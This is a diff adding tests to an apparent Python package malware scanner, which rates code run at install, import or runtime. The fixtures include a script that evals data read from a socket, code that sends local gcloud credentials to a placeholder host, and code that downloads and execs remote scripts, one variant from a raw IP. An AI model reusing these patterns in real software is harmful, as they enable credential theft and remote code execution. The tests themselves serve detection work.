@@ -136,6 +136,12 @@ def test_a_command_registered_at_import_runs_when_the_user_runs_it() -> None:
              "shapes/auth.py": login, "shapes/cli.py": cli}
     result = _scan(files)
     assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
+    # nor does a decorator written out as a call (``@cli.command(name="login")``)
+    files["shapes/cli.py"] = cli.replace(
+        "cli.add_command(login)\n", "cli.command(name='login')(login)\n"
+    )
+    result = _scan(files)
+    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
     # run at import, the same function is import-time code
     files["shapes/cli.py"] = cli.replace("cli.add_command(login)\n", "login('example.org')\n")
     result = _scan(files)
@@ -214,3 +220,66 @@ def test_a_staging_host_counts_only_for_the_code_that_can_fetch_it() -> None:
 
     assert cw103(elsewhere) and max(cw103(elsewhere)) < Severity.CRITICAL
     assert Severity.CRITICAL in cw103(in_class)
+
+
+def test_a_wheel_script_in_a_data_folder_runs_only_if_a_module_imports_it() -> None:
+    """A benchmark package ships the solution scripts of its exercises in folders without
+    ``__init__.py``, to copy into containers; one reads a socket and evaluates what it sends.
+    Importing the package runs none of them; a module of the package that imports one does."""
+    from tests.helpers import wheel_bytes
+
+    solve = "import socket\nconn = socket.create_connection(('127.0.0.1', 1337))\n" \
+        "print(eval(conn.recv(4096).decode()))\n"
+    files = {"shapes/__init__.py": "", "shapes/tasks/web/solution/solve.py": solve}
+    result = scan_bytes(wheel_bytes(files, "shapes", "1.0"), "shapes-1.0-py3-none-any.whl")
+    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
+    files["shapes/__init__.py"] = "from shapes.tasks.web.solution import solve\n"
+    result = scan_bytes(wheel_bytes(files, "shapes", "1.0"), "shapes-1.0-py3-none-any.whl")
+    assert any(f.phase is Phase.IMPORT and f.severity >= Severity.HIGH for f in result.findings)
+
+
+def test_a_function_re_exported_under_a_name_runs_when_that_name_is_called() -> None:
+    """A client library re-exports its entry point (``start = runs.start``); the entry point
+    asks the cloud's metadata server for credentials. Binding it to a name runs nothing; a
+    module that calls the name at import does."""
+    client = (
+        "import json, os, urllib.request\n"
+        "def start(project):\n"
+        "    token = json.load(open(os.path.expanduser('~/.config/gcloud/credentials.db')))\n"
+        "    req = urllib.request.Request('https://api.example.com/runs', headers=token)\n"
+        "    return urllib.request.urlopen(req).read()\n"
+    )
+    files = {"setup.py": "", "shapes/runs.py": client,
+             "shapes/api.py": "from shapes import runs\nstart = runs.start\n",
+             "shapes/__init__.py": "from shapes import api\n"}
+    result = _scan(files)
+    assert not [f for f in result.findings if f.phase in (Phase.INSTALL, Phase.IMPORT)]
+    files["shapes/__init__.py"] = "from shapes import api\napi.start('demo')\n"
+    result = _scan(files)
+    assert any(f.rule == "CW107" and f.phase is Phase.IMPORT for f in result.findings)
+
+
+def test_a_package_manager_running_the_setup_scripts_it_downloads_is_a_question() -> None:
+    """A shell's own package manager downloads the setup scripts of what its user installs and
+    runs them: code fetched and executed by design, when the user asks. A question for a
+    reviewer (high); from a raw address, or at import, it is malware (critical)."""
+    manager = (
+        "import requests\n"
+        "def repository(name, script):\n"
+        "    return f'https://packages.example.org/{name}/{script}'\n"
+        "def install(package):\n"
+        "    for script in package.setup_scripts:\n"
+        "        res = requests.get(repository(package.name, script))\n"
+        "        if res.status_code == 200:\n"
+        "            exec(res.content.decode())\n"
+    )
+    files = {"setup.py": "", "shapes/__init__.py": "", "shapes/manager.py": manager}
+    result = _scan(files)
+    (fired,) = [f for f in result.findings if f.rule == "CW102"]
+    assert (fired.severity, fired.phase) == (Severity.HIGH, Phase.RUNTIME)
+    assert result.verdict is Verdict.SUSPICIOUS
+    files["shapes/manager.py"] = manager.replace("https://packages.example.org", "http://203.0.113.7")
+    assert _scan(files).verdict is Verdict.MALICIOUS
+    files["shapes/manager.py"] = manager
+    files["shapes/__init__.py"] = "from shapes import manager\nmanager.install(manager)\n"
+    assert _scan(files).verdict is Verdict.MALICIOUS
